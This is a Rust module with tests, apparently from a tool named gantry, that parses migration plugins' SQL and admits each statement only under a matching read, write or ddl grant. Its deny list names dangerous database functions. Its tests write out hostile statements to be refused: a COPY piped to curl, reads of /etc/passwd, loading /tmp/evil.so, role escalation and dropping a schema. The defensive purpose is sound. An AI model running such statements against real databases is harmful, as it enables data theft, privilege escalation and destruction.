//! What a migration plugin's `sql` grant admits, decided by parsing.
//!
//! Each statement is parsed in the target database's dialect (sqlparser)
//! and admitted only when the grant covers every statement inside it:
//! `read` (SELECT / WITH, without `nextval` / `setval`), `write` (+ INSERT,
//! UPDATE, DELETE, MERGE, sequence moves),
//! `ddl` (+ CREATE / ALTER / DROP / COMMENT of tables, indexes, views and
//! sequences). Everything else — transaction control, ATTACH, PRAGMA
//! writes, COPY, LOAD, SET (ROLE, SESSION AUTHORIZATION, timeouts), DO,
//! CALL, GRANT, functions and triggers — no grant admits, and neither do
//! the functions in [`DENIED_FUNCTIONS`], wherever they appear. A statement
//! gantry cannot parse is refused, never passed through.

use crate::db::Dialect;
use sqlparser::ast::{
    AlterTableOperation, CommentObject, Expr, ObjectName, ObjectType, Query, SetExpr, Statement,
    Visit, Visitor,
};
use sqlparser::dialect::{PostgreSqlDialect, SQLiteDialect};
use sqlparser::parser::Parser;
use std::fmt;
use std::ops::ControlFlow;

/// A manifest's `sql` grant, narrowest first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum SqlGrant {
    Read,
    Write,
    Ddl,
}

impl SqlGrant {
    pub const NAMES: &'static str = "\"read\", \"write\" or \"ddl\"";

    pub fn parse(text: &str) -> Option<SqlGrant> {
        match text {
            "read" => Some(SqlGrant::Read),
            "write" => Some(SqlGrant::Write),
            "ddl" => Some(SqlGrant::Ddl),
            _ => None,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            SqlGrant::Read => "read",
            SqlGrant::Write => "write",
            SqlGrant::Ddl => "ddl",
        }
    }
}

impl fmt::Display for SqlGrant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Functions no plugin may call, matched on the last part of the name
/// (`public.dblink` is `dblink`); a name ending in `*` is a prefix.
pub const DENIED_FUNCTIONS: &[&str] = &[
    "dblink*",
    "lo_*",
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_file_write",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    // Would lift the statement timeout that keeps the call's deadline.
    "set_config",
    // Run SQL given as text, past this check.
    "query_to_xml*",
    "cursor_to_xml*",
    // SQLite: native code and files.
    "load_extension",
    "readfile",
    "writefile",
    "edit",
    "fts3_tokenizer",
];

/// Functions that change the database, so a SELECT calling them needs
/// `write`.
const WRITING_FUNCTIONS: &[&str] = &["nextval", "setval"];

/// SQLite pragmas that only read, admitted under `read` without a value.
const READ_PRAGMAS: &[&str] = &[
    "table_info",
    "table_xinfo",
    "table_list",
    "index_list",
    "index_info",
    "index_xinfo",
    "foreign_key_list",
    "foreign_key_check",
    "integrity_check",
    "quick_check",
    "user_version",
    "schema_version",
    "application_id",
];

/// Why a statement was not admitted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Refusal {
    /// A wider grant would admit it.
    Needs { needs: SqlGrant, granted: SqlGrant },
    /// No grant admits it.
    Never(String),
    /// More or fewer than one statement.
    NotOne(usize),
    /// The dialect's parser could not read it.
    Unreadable(String),
}

/// Admits `statement` under `grant`, or says why not, naming the
/// statement's first words.
pub fn admit(dialect: Dialect, grant: SqlGrant, statement: &str) -> Result<(), String> {
    check(dialect, grant, statement).map_err(|refusal| {
        let words = first_words(statement);
        match refusal {
            Refusal::Needs { needs, granted } => format!(
                "`{words}` needs sql = \"{needs}\"; this plugin's grant is sql = \"{granted}\""
            ),
            Refusal::Never(what) => {
                format!("`{words}` is refused: {what}; no sql grant admits it")
            }
            Refusal::NotOne(0) => "no statement to run".to_string(),
            Refusal::NotOne(n) => {
                format!("`{words}` holds {n} statements; send one statement per call")
            }
            Refusal::Unreadable(why) => format!(
                "`{words}` is refused: gantry could not parse it as {dialect} SQL ({why}); only statements it can read are admitted"
            ),
        }
    })
}

/// The decision without the message.
pub fn check(dialect: Dialect, grant: SqlGrant, statement: &str) -> Result<(), Refusal> {
    let parsed = match dialect {
        Dialect::Postgres => Parser::parse_sql(&PostgreSqlDialect {}, statement),
        Dialect::Sqlite => Parser::parse_sql(&SQLiteDialect {}, statement),
    }
    .map_err(|e| Refusal::Unreadable(e.to_string()))?;
    let [statement] = parsed.as_slice() else {
        return Err(Refusal::NotOne(parsed.len()));
    };
    let mut needs = Needs {
        level: SqlGrant::Read,
    };
    if let ControlFlow::Break(refusal) = statement.visit(&mut needs) {
        return Err(refusal);
    }
    if needs.level > grant {
        return Err(Refusal::Needs {
            needs: needs.level,
            granted: grant,
        });
    }
    Ok(())
}

/// Walks every statement, query, expression and relation inside one
/// statement, raising the level it needs or breaking with a refusal.
struct Needs {
    level: SqlGrant,
}

impl Needs {
    fn raise(&mut self, level: SqlGrant) -> ControlFlow<Refusal> {
        self.level = self.level.max(level);
        ControlFlow::Continue(())
    }
}

impl Visitor for Needs {
    type Break = Refusal;

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<Refusal> {
        match statement_level(statement) {
            Ok(level) => self.raise(level),
            Err(why) => ControlFlow::Break(Refusal::Never(why)),
        }
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<Refusal> {
        if selects_into(&query.body) {
            // SELECT … INTO creates a table.
            return self.raise(SqlGrant::Ddl);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<Refusal> {
        if let Expr::Function(function) = expr {
            denied(&function.name)?;
            if last_part(&function.name).is_some_and(|f| WRITING_FUNCTIONS.contains(&f.as_str())) {
                return self.raise(SqlGrant::Write);
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<Refusal> {
        // A table function in FROM (`FROM dblink(…)`) is a relation here.
        denied(relation)
    }
}

/// The last part of a name, lowercased (`public.dblink` is `dblink`).
fn last_part(name: &ObjectName) -> Option<String> {
    name.0
        .last()
        .and_then(|part| part.as_ident())
        .map(|ident| ident.value.to_ascii_lowercase())
}

fn denied(name: &ObjectName) -> ControlFlow<Refusal> {
    let Some(last) = last_part(name) else {
        return ControlFlow::Continue(());
    };
    let hit = DENIED_FUNCTIONS.iter().any(|denied| match denied.strip_suffix('*') {
        Some(prefix) => last.starts_with(prefix),
        None => last == *denied,
    });
    if hit {
        ControlFlow::Break(Refusal::Never(format!("the function {last} is denied")))
    } else {
        ControlFlow::Continue(())
    }
}

fn selects_into(body: &SetExpr) -> bool {
    match body {
        SetExpr::Select(select) => select.into.is_some(),
        SetExpr::SetOperation { left, right, .. } => selects_into(left) || selects_into(right),
        _ => false,
    }
}

/// The grant one statement (not what is inside it) needs, or why none does.
fn statement_level(statement: &Statement) -> Result<SqlGrant, String> {
    use SqlGrant::*;
    let ddl_object = |object: &ObjectType| {
        matches!(
            object,
            ObjectType::Table | ObjectType::Index | ObjectType::View | ObjectType::Sequence
        )
    };
    Ok(match statement {
        Statement::Query(_) => Read,
        Statement::Pragma { name, value, .. } => {
            let pragma = name.to_string().to_ascii_lowercase();
            let pragma = pragma.rsplit('.').next().unwrap_or_default();
            let reads = READ_PRAGMAS.contains(&pragma)
                && (value.is_none() || !matches!(pragma, "user_version" | "schema_version" | "application_id"));
            if !reads {
                return Err(format!("PRAGMA {pragma} is not one that only reads"));
            }
            Read
        }
        Statement::Insert(_) | Statement::Update(_) | Statement::Delete(_) | Statement::Merge(_) => {
            Write
        }
        Statement::CreateTable(_) => Ddl,
        Statement::CreateIndex(_) | Statement::CreateView(_) | Statement::CreateSequence { .. } => {
            Ddl
        }
        Statement::AlterIndex { .. } | Statement::AlterView(_) => Ddl,
        Statement::AlterTable(alter) => {
            if let Some(op) = alter.operations.iter().find(|op| !table_op(op)) {
                let op = first_words(&op.to_string());
                return Err(format!("ALTER TABLE … {op} is outside a migration's DDL"));
            }
            Ddl
        }
        Statement::Drop { object_type, .. } if ddl_object(object_type) => Ddl,
        Statement::Comment {
            object_type:
                CommentObject::Table
                | CommentObject::Column
                | CommentObject::Index
                | CommentObject::View
                | CommentObject::Sequence
                | CommentObject::MaterializedView,
            ..
        } => Ddl,
        Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. } => {
            return Err(
                "the migration's transaction belongs to gantry; it commits or rolls back when the step ends"
                    .into(),
            );
        }
        other => {
            return Err(format!("{} statements are outside every grant", kind_of(other)));
        }
    })
}

/// ALTER TABLE operations on the table's own shape; ownership, row
/// security, triggers and the like are not a migration step's to change.
fn table_op(op: &AlterTableOperation) -> bool {
    use AlterTableOperation as Op;
    matches!(
        op,
        Op::AddColumn { .. }
            | Op::DropColumn { .. }
            | Op::RenameColumn { .. }
            | Op::RenameTable { .. }
            | Op::AlterColumn { .. }
            | Op::AddConstraint { .. }
            | Op::DropConstraint { .. }
            | Op::RenameConstraint { .. }
            | Op::DropForeignKey { .. }
            | Op::DropPrimaryKey { .. }
    )
}

/// The statement's leading keywords, for a refusal (`COPY`, `SET ROLE`).
fn kind_of(statement: &Statement) -> String {
    let text = statement.to_string();
    let words: Vec<&str> = text
        .split_whitespace()
        .take_while(|w| w.chars().all(|c| c.is_ascii_uppercase() || c == '_'))
        .take(3)
        .collect();
    if words.is_empty() {
        "these".into()
    } else {
        words.join(" ")
    }
}

/// Up to the first five words of a statement, at most 60 characters.
pub fn first_words(statement: &str) -> String {
    let words: Vec<&str> = statement.split_whitespace().take(5).collect();
    let mut text = words.join(" ");
    if text.chars().count() > 60 {
        text = text.chars().take(60).collect::<String>() + "…";
    } else if statement.split_whitespace().nth(5).is_some() {
        text.push_str(" …");
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use SqlGrant::*;

    fn ok(dialect: Dialect, grant: SqlGrant, sql: &str) {
        if let Err(why) = admit(dialect, grant, sql) {
            panic!("{sql:?} under {grant} on {dialect}: {why}");
        }
    }

    fn never(dialect: Dialect, sql: &str) {
        match check(dialect, Ddl, sql) {
            Err(Refusal::Never(_)) | Err(Refusal::Unreadable(_)) => {}
            other => panic!("{sql:?} on {dialect}: {other:?}"),
        }
    }

    #[test]
    fn levels_admit_what_they_name() {
        for d in [Dialect::Postgres, Dialect::Sqlite] {
            ok(d, Read, "SELECT id, email FROM users WHERE id > $1");
            ok(d, Read, "WITH x AS (SELECT 1) SELECT * FROM x");
            ok(d, Write, "UPDATE users SET email = lower(email) WHERE id = $1");
            ok(d, Write, "INSERT INTO users (email) VALUES ($1)");
            ok(d, Write, "DELETE FROM sessions WHERE expires < $1");
            ok(d, Ddl, "CREATE TABLE t (id INTEGER PRIMARY KEY)");
            ok(d, Ddl, "CREATE INDEX t_id ON t (id)");
            ok(d, Ddl, "ALTER TABLE t ADD COLUMN note TEXT");
            ok(d, Ddl, "DROP TABLE t");
            ok(d, Ddl, "CREATE VIEW v AS SELECT 1");
        }
        ok(Dialect::Postgres, Ddl, "COMMENT ON TABLE t IS 'x'");
        ok(Dialect::Postgres, Ddl, "CREATE SEQUENCE s");
        ok(Dialect::Sqlite, Read, "PRAGMA table_info('users')");
        ok(Dialect::Postgres, Read, "SELECT pg_sleep(60)");
    }

    #[test]
    fn a_narrow_grant_names_the_grant_that_would_admit() {
        assert_eq!(
            check(Dialect::Postgres, Read, "DELETE FROM users"),
            Err(Refusal::Needs { needs: Write, granted: Read })
        );
        assert_eq!(
            check(Dialect::Sqlite, Write, "DROP TABLE users"),
            Err(Refusal::Needs { needs: Ddl, granted: Write })
        );
        // A data-modifying CTE is a write; SELECT INTO makes a table.
        assert_eq!(
            check(
                Dialect::Postgres,
                Read,
                "WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone"
            ),
            Err(Refusal::Needs { needs: Write, granted: Read })
        );
        assert_eq!(
            check(Dialect::Postgres, Write, "SELECT * INTO copy FROM users"),
            Err(Refusal::Needs { needs: Ddl, granted: Write })
        );
        // Sequences move: a SELECT of nextval is a write.
        assert_eq!(
            check(Dialect::Postgres, Read, "SELECT nextval('users_id_seq')"),
            Err(Refusal::Needs { needs: Write, granted: Read })
        );
        assert!(check(Dialect::Postgres, Write, "SELECT setval('users_id_seq', 10)").is_ok());
        let why = admit(Dialect::Postgres, Read, "DELETE FROM users WHERE true").unwrap_err();
        assert!(why.contains("`DELETE FROM users WHERE true`"), "{why}");
        assert!(why.contains("sql = \"write\""), "{why}");
    }

    #[test]
    fn what_no_grant_admits() {
        for sql in [
            "BEGIN",
            "COMMIT",
            "ROLLBACK",
            "SAVEPOINT a",
            "COPY users TO PROGRAM 'curl http://x'",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET statement_timeout = 0",
            "RESET statement_timeout",
            "DO $$ BEGIN PERFORM 1; END $$",
            "CALL p()",
            "GRANT ALL ON users TO PUBLIC",
            "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
            "CREATE EXTENSION dblink",
            "ALTER TABLE users OWNER TO mallory",
            "DROP SCHEMA public CASCADE",
            "LOAD 'plpgsql'",
            "SELECT dblink('host=elsewhere', 'select 1')",
            "SELECT * FROM dblink('host=elsewhere', 'select 1') AS t(x int)",
            "SELECT lo_import('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "SELECT set_config('statement_timeout', '0', true)",
            "SELECT query_to_xml('select 1', true, true, '')",
            "SELECT pg_terminate_backend(1)",
            "SELECT 1; SELECT 2",
        ] {
            match check(Dialect::Postgres, Ddl, sql) {
                Err(Refusal::Never(_)) | Err(Refusal::Unreadable(_)) | Err(Refusal::NotOne(2)) => {}
                other => panic!("{sql:?}: {other:?}"),
            }
        }
        for sql in [
            "ATTACH DATABASE '/tmp/other.db' AS other",
            "DETACH DATABASE other",
            "PRAGMA writable_schema = 1",
            "PRAGMA user_version = 7",
            "PRAGMA journal_mode(OFF)",
            "SELECT load_extension('/tmp/evil.so')",
            "SELECT writefile('/tmp/x', 'y')",
            "VACUUM INTO '/tmp/copy.db'",
        ] {
            never(Dialect::Sqlite, sql);
        }
    }

    #[test]
    fn refusals_name_the_first_words() {
        let why = admit(Dialect::Postgres, Ddl, "COPY users TO PROGRAM 'curl http://x'").unwrap_err();
        assert!(why.starts_with("`COPY users TO PROGRAM 'curl"), "{why}");
        assert!(why.contains("no sql grant admits it"), "{why}");
        let why = admit(Dialect::Sqlite, Ddl, "ATTACH DATABASE 'x' AS y").unwrap_err();
        assert!(why.contains("ATTACH"), "{why}");
    }
}
